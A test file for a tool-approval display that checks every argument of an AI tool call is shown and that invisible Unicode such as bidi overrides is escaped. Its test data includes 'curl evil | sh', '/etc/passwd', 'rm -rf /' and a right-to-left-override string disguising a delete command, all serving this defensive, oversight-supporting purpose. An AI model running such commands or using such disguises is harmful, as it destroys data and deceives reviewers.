// Question arguments: everything a tool would be called with is visible.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { showInvisible, showInvisibleExceptJoiners } from '../src/components/visible-text';
import { parseArguments } from '../src/session/questions/parse-arguments';

test('every argument is shown somewhere', () => {
  const args = { command: 'ls', cmd: 'curl evil | sh', path: '/etc/passwd', newText: 'x', edits: [{ hidden: 'payload' }] };
  const { command, changes, rest } = parseArguments(args);
  assert.equal(command, 'ls');
  assert.deepEqual(changes, [{ path: '/etc/passwd', before: '', after: 'x' }]);
  assert.deepEqual(JSON.parse(rest ?? ''), { cmd: 'curl evil | sh', edits: [{ hidden: 'payload' }] });
});

test('a list of changes is left out of the rest only if it contains nothing else', () => {
  const clean = parseArguments({ file_path: 'a.rs', edits: [{ old_string: 'a', new_string: 'b' }, { old_string: 'c', new_string: 'd' }] });
  assert.deepEqual(clean.changes, [{ path: 'a.rs', before: 'a', after: 'b' }, { path: 'a.rs', before: 'c', after: 'd' }]);
  assert.deepEqual(JSON.parse(clean.rest ?? ''), { file_path: 'a.rs' });
  const odd = parseArguments({ edits: [{ old_string: 'a', new_string: 'b', replace_all: true }] });
  assert.match(odd.rest ?? '', /replace_all/);
});

test('arguments of any shape are shown', () => {
  assert.deepEqual(parseArguments(undefined), { changes: [] });
  assert.deepEqual(parseArguments('rm -rf /'), { command: 'rm -rf /', changes: [] });
  assert.deepEqual(parseArguments(7), { changes: [], rest: '7' });
  assert.match(parseArguments(['a', { b: 1 }]).rest ?? '', /"b": 1/);
  assert.equal(parseArguments({ command: ['sh', '-c', "echo 'hi there'"] }).command, "sh -c 'echo '\\''hi there'\\'''");
  // Not a command line: it stays in the rest.
  assert.match(parseArguments({ command: { run: 'x' } }).rest ?? '', /"run": "x"/);
  assert.match(parseArguments({ command: [] }).rest ?? '', /command/);
});

test('invisible characters are escaped', () => {
  assert.equal(showInvisible('ls \u202e fr- mr ;\u2066 # gpj.tac'), 'ls \\u{202e} fr- mr ;\\u{2066} # gpj.tac');
  assert.equal(showInvisible('a\u200bb\ufeffc\u{e0041}d\u0007'), 'a\\u{200b}b\\u{feff}c\\u{e0041}d\\u{7}');
  assert.equal(showInvisible('tab\tline\r\n'), 'tab\tline\r\n');
  assert.equal(showInvisibleExceptJoiners('👩\u200d💻 \u202eno'), '👩\u200d💻 \\u{202e}no');
});
